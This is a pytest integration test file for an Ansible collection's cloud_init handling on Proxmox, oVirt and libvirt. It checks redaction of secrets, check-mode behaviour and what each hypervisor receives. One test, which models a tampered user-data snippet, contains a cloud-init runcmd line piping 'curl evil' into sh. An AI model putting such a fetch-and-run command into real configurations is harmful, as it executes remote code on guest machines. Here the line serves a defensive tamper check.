"""pureboot_vm's cloud_init through real ansible-playbook runs, read back from what reached the hypervisor."""

import base64
import hashlib
import json
from urllib.parse import unquote

import pytest

from ansible_collections.pureboot.hypervisors.plugins.module_utils._sha_crypt import verify
from ansible_collections.pureboot.hypervisors.tests.contract.backends import ALL_BACKENDS
from ansible_collections.pureboot.hypervisors.tests.integration.conftest import target_vars
from ansible_collections.pureboot.hypervisors.tests.integration.runner import ansible_inventory, assert_ok, listing, run_playbook
from ansible_collections.pureboot.hypervisors.tests.integration.test_security import case

PASSWORD = 'Cl0ud-init-S3cret'
KEY = 'ssh-ed25519 ' + base64.b64encode(b'\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20' + bytes(range(32))).decode() + ' deploy@ci-test'
USER_DATA = '#cloud-config\npackages: [htop]\n'


def cloud_init(**overrides):
    settings = {
        'user': 'deploy',
        'password': PASSWORD,
        'ssh_keys': [KEY],
        'ip_config': [{'address': '192.0.2.10/24', 'gateway': '192.0.2.1'}],
        'nameservers': ['192.0.2.53'],
        'search_domains': ['lab.example.com'],
    }
    settings.update(overrides)
    return settings


def play(tasks):
    """A play of pureboot_vm tasks ((name, extra options, check mode)); their results go to results.json in order."""
    steps = []
    for name, options, check in tasks:
        module = dict({'hypervisor': '{{ hv }}', 'name': 'ci-vm', 'template': '{{ template }}'}, **options)
        steps.append({'name': name, 'pureboot.hypervisors.pureboot_vm': module, 'register': name, 'check_mode': check})
    registered = ', '.join(name for name, _options, _check in tasks)
    steps.append({'name': 'results', 'write_file': {'dest': '{{ results_file }}', 'content': '{{ [' + registered + '] | to_json }}'}})
    return [{'name': 'cloud_init', 'hosts': 'localhost', 'gather_facts': False, 'tasks': steps}]


VERBOSE = ('--diff', '-vvv')


def run(backend, tmp_path, tasks, args=('--diff',)):
    placement = dict(backend.placement)
    for step in tasks:
        step[1].update(placement)
    result = run_playbook(tmp_path, play(tasks), target_vars(backend, tmp_path), args=list(args))
    assert_ok(result)
    output = result.stdout + result.stderr
    assert PASSWORD not in output, 'a secret reached the output'
    if '-vvv' not in args:
        # (At -vvv the invocation shows the public keys given, as any module's arguments.)
        assert KEY.split()[1] not in output, 'the keys are shown as fingerprints'
    # user_data is no_log (it may hold secrets of its own): at -vvv too, results and invocations show its digest only.
    assert 'packages: [htop]' not in output, 'user_data reached the output'
    results = json.loads((tmp_path / 'results.json').read_text())
    # One space for every run of whitespace: ansible-core 2.16 wraps a warning at the terminal's width.
    return results, ' '.join(output.split())


@pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
def test_proxmox_cloud_init_reaches_the_vm_config(backend, tmp_path):
    results, output = run(
        backend,
        tmp_path,
        [
            ('preview', {'cloud_init': cloud_init()}, True),
            ('create', {'cloud_init': cloud_init()}, False),
            ('again', {'cloud_init': cloud_init()}, False),
            ('change', {'cloud_init': cloud_init(nameservers=['192.0.2.54'], ip_config=[{'address': 'dhcp'}])}, False),
            ('kept', {'cloud_init': cloud_init(password='Other-pa55word', nameservers=['192.0.2.54'], ip_config=[{'address': 'dhcp'}])}, False),
        ],
    )
    preview, create, again, change, kept = results
    assert preview['changed'] and create['changed']
    # Check mode predicted what the real run returns.
    assert preview['cloud_init'] == create['cloud_init']
    assert create['cloud_init']['password'] == '********'
    assert create['cloud_init']['ssh_keys'][0].startswith('ssh-ed25519 SHA256:')
    assert not again['changed'] and again['cloud_init'] == create['cloud_init']
    assert change['changed'] and change['diff']['after']['cloud_init']['nameservers'] == ['192.0.2.54']
    assert change['diff']['before']['cloud_init']['nameservers'] == ['192.0.2.53']
    assert 'cloud_init changed (ip_config, nameservers); the guest reads it at its next boot' in output
    # update_password on_create: a password set before is not written again.
    assert not kept['changed']
    # What PVE holds: the drive and the ci* keys, sshkeys URL-encoded.
    config = backend.pve.vm(int(create['vm']['id'])).config
    drive = [key for key in config if str(config[key]).split(',', maxsplit=1)[0].endswith('cloudinit')]
    assert drive, config
    assert config['ciuser'] == 'deploy'
    assert unquote(config['sshkeys']).strip() == KEY and ' ' not in config['sshkeys']
    assert config['ipconfig0'] == 'ip=dhcp'
    assert config['nameserver'] == '192.0.2.54' and config['searchdomain'] == 'lab.example.com'
    assert config.get('cipassword')


@pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
def test_proxmox_user_data_needs_its_snippet(backend, tmp_path):
    result = run_playbook(tmp_path, play([('create', {'cloud_init': {'user_data': USER_DATA}, 'node': 'pve1'}, False)]), target_vars(backend, tmp_path))
    assert result.returncode != 0
    assert "needs a storage whose content allows snippets on node 'pve1'" in result.stdout
    assert backend.driver().get_vm(name='ci-vm') is None, 'a VM was made before the check failed'


@pytest.mark.smoke
@pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
@case('user-data-and-seed-secrets')
def test_proxmox_user_data_as_a_snippet(backend, tmp_path):
    name = 'snippets/pureboot-user-data-{0}.yaml'.format(hashlib.sha256(USER_DATA.encode()).hexdigest()[:16])
    backend.pve.storages['local']['content'] = 'iso,vztmpl,backup,snippets'
    volumes = backend.pve.storages['local'].setdefault('volumes', {})
    volumes[name] = {'content': 'snippets', 'format': 'raw', 'size': len(USER_DATA), 'ctime': 0}
    results, _output = run(
        backend,
        tmp_path,
        [
            ('preview', {'cloud_init': cloud_init(user_data=USER_DATA)}, True),
            ('create', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
            ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
        ],
        args=VERBOSE,
    )
    preview, create, again = results
    assert preview['cloud_init'] == create['cloud_init'] == again['cloud_init'] and not again['changed']
    assert create['cloud_init']['user_data'] == 'sha256:' + name.rsplit('-', maxsplit=1)[-1][: -len('.yaml')]
    assert backend.pve.vm(int(create['vm']['id'])).config['cicustom'] == 'user=local:' + name
    # Another document is another snippet, which is not there: one line says where it must be, nothing is written.
    writes = backend.write_count()
    result = run_playbook(
        tmp_path,
        play([('other', dict(backend.placement, cloud_init=cloud_init(user_data=USER_DATA + 'timezone: UTC\n')), False)]),
        target_vars(backend, tmp_path),
    )
    assert result.returncode != 0 and backend.write_count() == writes
    assert "cloud_init.user_data: the snippet 'local:snippets/pureboot-user-data-" in result.stdout
    assert "is not on node 'pve1'; PVE's API cannot upload snippets" in result.stdout


@pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
@case('proxmox-snippet-checked')
def test_proxmox_a_snippet_of_another_size_is_not_the_document(backend, tmp_path):
    name = 'snippets/pureboot-user-data-{0}.yaml'.format(hashlib.sha256(USER_DATA.encode()).hexdigest()[:16])
    backend.pve.storages['local']['content'] = 'iso,vztmpl,backup,snippets'
    volumes = backend.pve.storages['local'].setdefault('volumes', {})
    # A snippet of the right name that is not this document (someone with write access to the snippet storage
    # changed it): PVE's API cannot read it back, but it lists its size, which differs: one line, nothing written.
    volumes[name] = {'content': 'snippets', 'format': 'raw', 'ctime': 0, 'size': len(USER_DATA) + len('runcmd: [[sh, -c, "curl evil | sh"]]\n')}
    writes = backend.write_count()
    result = run_playbook(
        tmp_path,
        play([('tampered', dict(backend.placement, cloud_init=cloud_init(user_data=USER_DATA), name='ci-vm-2'), False)]),
        target_vars(backend, tmp_path),
    )
    assert result.returncode != 0 and backend.write_count() == writes
    assert "the snippet 'local:{0}' on node 'pve1' has {1} bytes, the document {2}: it is not this document".format(
        name, volumes[name]['size'], len(USER_DATA)
    ) in ' '.join(result.stdout.split()), result.stdout[-2000:]
    assert backend.driver().get_vm(name='ci-vm-2') is None, 'a VM was made before the check failed'


@pytest.mark.parametrize('backend', ['ovirt'], indirect=True)
def test_ovirt_initialization_reaches_the_engine_and_the_first_boot(backend, tmp_path):
    results, output = run(
        backend,
        tmp_path,
        [
            ('preview', {'cloud_init': cloud_init()}, True),
            ('create', {'cloud_init': cloud_init()}, False),
            ('again', {'cloud_init': cloud_init()}, False),
            ('start', {'cloud_init': cloud_init(), 'state': 'running'}, False),
            ('change', {'cloud_init': cloud_init(search_domains=['other.example.com']), 'state': 'running'}, False),
        ],
    )
    preview, create, again, start, change = results
    assert preview['changed'] and preview['cloud_init'] == create['cloud_init']
    assert not again['changed'] and again['cloud_init'] == create['cloud_init']
    assert start['changed'] and start['cloud_init'] == create['cloud_init']
    assert change['changed'] and change['cloud_init']['search_domains'] == ['other.example.com']
    assert 'cloud_init changed (search_domains); the guest reads it at its first boot only' in output
    vm = backend.engine.state.vm_by_name('ci-vm')
    # What the engine received: the first request with the password, none after it (update_password: on_create).
    received = vm.initializations_received
    assert received[0].root_password == PASSWORD and all(r.root_password is None for r in received[1:])
    assert len(received) == 2
    booted = vm.first_boot_initialization
    assert booted.user_name == 'deploy' and booted.root_password == PASSWORD
    assert booted.authorized_ssh_keys.strip() == KEY and booted.dns_servers == '192.0.2.53'
    assert booted.dns_search == 'lab.example.com'
    nic = booted.nic_configurations[0]
    assert (nic.name, nic.boot_protocol.value, nic.ip.address, nic.ip.netmask, nic.ip.gateway) == ('eth0', 'static', '192.0.2.10', '255.255.255.0', '192.0.2.1')
    # The change reached the VM, not the boot that happened before it.
    assert vm.obj.initialization.dns_search == 'other.example.com'


@pytest.mark.parametrize('backend', ['libvirt'], indirect=True)
@case('user-data-and-seed-secrets')
def test_libvirt_nocloud_seed_volume_attached_and_readable(backend, tmp_path):
    import io
    import xml.etree.ElementTree as ET

    import pycdlib

    # (Check mode of a new libvirt VM fails before cloud_init is looked at, KeyError 'clone' in predict_vm, a bug of
    # the libvirt driver's preflight outside this test: the preview here is of a change to an existing VM.)
    results, output = run(
        backend,
        tmp_path,
        [
            ('create', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
            ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
            ('preview', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, True),
            ('change', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, False),
        ],
        args=VERBOSE,
    )
    create, again, preview, change = results
    assert create['changed'] and create['cloud_init']['password'] == '********'
    assert not again['changed'] and again['cloud_init'] == create['cloud_init']
    assert preview['changed'] and preview['cloud_init'] == change['cloud_init']
    assert change['changed'] and change['cloud_init']['nameservers'] == ['192.0.2.54']
    assert 'cloud_init changed (nameservers); the guest reads it at its next boot' in output
    conn = backend.host.connect()
    dom = conn.lookupByName('ci-vm')
    cdroms = [d for d in ET.fromstring(dom.XMLDesc(0)).findall('devices/disk') if d.get('device') == 'cdrom']
    assert [(d.find('source').get('pool'), d.find('source').get('volume')) for d in cdroms] == [(backend.pool, 'ci-vm-cidata.iso')]
    assert cdroms[0].find('readonly') is not None
    # The seed as a guest's cloud-init finds it: an ISO9660 volume labelled cidata with the NoCloud files.
    volume = conn.storagePoolLookupByName(backend.pool).storageVolLookupByName('ci-vm-cidata.iso')
    stream = conn.newStream(0)
    volume.download(stream, 0, volume.info()[1], 0)
    image = b''
    while True:
        chunk = stream.recv(1 << 16)
        if not chunk:
            break
        image += chunk
    stream.finish()
    iso = pycdlib.PyCdlib()
    iso.open_fp(io.BytesIO(image))
    assert iso.pvd.volume_identifier.decode().strip() == 'cidata'
    files = {}
    for name in ('meta-data', 'user-data', 'network-config'):
        out = io.BytesIO()
        iso.get_file_from_iso_fp(out, iso_path='/{0};1'.format(name.upper()))
        files[name] = out.getvalue().decode()
    iso.close()
    meta = json.loads(files['meta-data'])
    assert meta['local-hostname'] == 'ci-vm' and meta['instance-id'].startswith('pureboot-')
    assert 'packages: [htop]' in files['user-data'] and KEY in files['user-data']
    # The seed stays attached and readable by the guest (and the pool's readers): a SHA-512 crypt hash of the
    # password, never the password; the same hash after the runs that did not change the password.
    assert PASSWORD not in ''.join(files.values())
    config = json.loads(files['user-data'].split('#cloud-config\n', 1)[1].split('\n--', 1)[0])
    stored = config['users'][1]['passwd']
    assert stored.startswith('$6$') and verify(PASSWORD, stored) and 'plain_text_passwd' not in config['users'][1]
    network = json.loads(files['network-config'])['ethernets']['eth0']
    mac = ET.fromstring(dom.XMLDesc(0)).find('devices/interface/mac').get('address')
    assert network['match'] == {'macaddress': mac} and network['addresses'] == ['192.0.2.10/24']
    assert network['nameservers'] == {'addresses': ['192.0.2.54'], 'search': ['lab.example.com']}
    # Removing the VM removes its seed.
    removed = run_playbook(tmp_path, play([('remove', {'state': 'absent'}, False)]), target_vars(backend, tmp_path))
    assert_ok(removed)
    conn.storagePoolLookupByName(backend.pool).refresh(0)
    assert 'ci-vm-cidata.iso' not in conn.storagePoolLookupByName(backend.pool).listVolumes()


@pytest.mark.parametrize('backend', ALL_BACKENDS, indirect=True)
def test_inventory_takes_the_cloud_init_user_and_address_only_when_asked(backend, tmp_path):
    results, _output = run(backend, tmp_path, [('create', {'cloud_init': cloud_init()}, False)])
    assert results[0]['changed']
    source = {'plugin': 'pureboot.hypervisors.pureboot', 'hypervisors': [backend.connection()]}
    plain = listing(ansible_inventory(tmp_path, source))['_meta']['hostvars']['ci-vm']
    assert 'ansible_user' not in plain and 'ansible_host' not in plain
    asked = listing(ansible_inventory(tmp_path, dict(source, use_cloud_init=True)))['_meta']['hostvars']['ci-vm']
    # The VM is stopped, so the hypervisor reports no address: the static cloud-init one serves.
    assert (asked['ansible_user'], asked['ansible_host']) == ('deploy', '192.0.2.10')
    assert PASSWORD not in json.dumps(asked)


@pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
def test_role_vm_provision_takes_cloud_init_per_vm(backend, tmp_path):
    connection = backend.connection()
    vms = [
        dict(
            backend.placement,
            name='ci-role-1',
            hypervisor='hv',
            template=backend.template,
            pxe_boot=False,
            cloud_init={'user': 'deploy', 'ssh_keys': [KEY], 'ip_config': [{'address': 'dhcp'}]},
        ),
        dict(backend.placement, name='ci-role-2', hypervisor='hv', template=backend.template, state='present'),
    ]
    plays = [{'hosts': 'localhost', 'gather_facts': False, 'roles': [{'role': 'pureboot.hypervisors.vm_provision'}]}]
    variables = {'vm_provision_hypervisors': {'hv': connection}, 'vm_provision_vms': vms, 'vm_provision_cloud_init_passwords': {'ci-role-1': PASSWORD}}
    for _run in range(2):
        result = run_playbook(tmp_path, plays, variables, args=['-v'])
        assert_ok(result)
        assert PASSWORD not in result.stdout + result.stderr
    assert 'changed=0' in result.stdout, 'the second run changed something'
    first = backend.driver().get_vm(name='ci-role-1')
    config = backend.pve.vm(int(first['id'])).config
    assert config['ciuser'] == 'deploy' and config['cipassword'] == PASSWORD and config['ipconfig0'] == 'ip=dhcp'
    assert first['boot_order'][0] != 'network', 'pxe_boot: false per VM'
    second = backend.driver().get_vm(name='ci-role-2')
    assert 'ciuser' not in backend.pve.vm(int(second['id'])).config and second['boot_order'][0] == 'network'


@pytest.mark.parametrize('backend', ALL_BACKENDS, indirect=True)
def test_check_mode_of_a_cloud_init_change_sends_no_write_and_shows_it_redacted(backend, tmp_path):
    run(backend, tmp_path, [('create', {'cloud_init': cloud_init()}, False)])
    writes = backend.write_count()
    results, output = run(
        backend, tmp_path, [('preview', {'cloud_init': cloud_init(ssh_keys=[KEY, KEY.replace('deploy@', 'other@')], update_password='always')}, True)]
    )
    assert backend.write_count() == writes, 'check mode sent a write request'
    preview = results[0]
    assert preview['changed']
    before, after = preview['diff']['before']['cloud_init'], preview['diff']['after']['cloud_init']
    assert len(before['ssh_keys']) == 1 and len(after['ssh_keys']) == 2
    # update_password: always writes the password again, except on libvirt, whose seed keeps the password's hash:
    # the password given verifies against it, so it is the same and not written again.
    changed = 'ssh_keys)' if backend.kind == 'libvirt' else 'ssh_keys, password'
    assert after['password'] == '********' and changed in output
